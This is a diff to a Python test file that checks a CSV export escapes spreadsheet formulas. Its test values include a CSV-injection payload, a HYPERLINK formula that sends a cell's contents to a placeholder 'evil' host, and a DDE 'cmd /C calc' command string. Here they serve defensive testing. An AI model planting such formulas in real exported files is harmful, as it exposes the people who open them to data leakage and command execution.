@@ -1,8 +1,11 @@
 import csv
+from pathlib import Path
+
+import pytest
 
 from components.evaluation.label_audit import Audit, Suspect
 from components.records import read_jsonl, read_record, write_jsonl
-from components.stages.audit import audit, audit_folder
+from components.stages.audit import audit, audit_folder, write_table
 from components.tracking import NullTracker
 from tests.components.stages.conftest import MakeRun, example
 
@@ -27,3 +30,26 @@ def test_suspects_are_written_with_a_column_for_peoples_answers(make_run: MakeRu
         rows = list(csv.DictReader(file))
     assert [row["example_id"] for row in rows] == [each.example_id for each in listed]
     assert {row["right_value"] for row in rows} == {""}
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ('=HYPERLINK("http://evil/?"&A1)', '\'=HYPERLINK("http://evil/?"&A1)'),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("-3.5", "-3.5"),
+        ("+49", "+49"),
+        ("late = bad", "late = bad"),
+    ],
+)
+def test_no_cell_of_the_table_is_a_formula_in_a_spreadsheet(text: str, cell: str, tmp_path: Path) -> None:
+    suspect = Suspect(example_id=text, field=text, value=text, suggested=text, probability=0.5, reason=text, text=text)
+    write_table(tmp_path / "suspects.csv", [suspect])
+    with (tmp_path / "suspects.csv").open(encoding="utf-8", newline="") as file:
+        (row,) = csv.DictReader(file)
+    assert row["probability"] == "0.5" and row["right_value"] == ""
+    assert {row[name] for name in ("example_id", "field", "value", "suggested", "reason", "text")} == {cell}
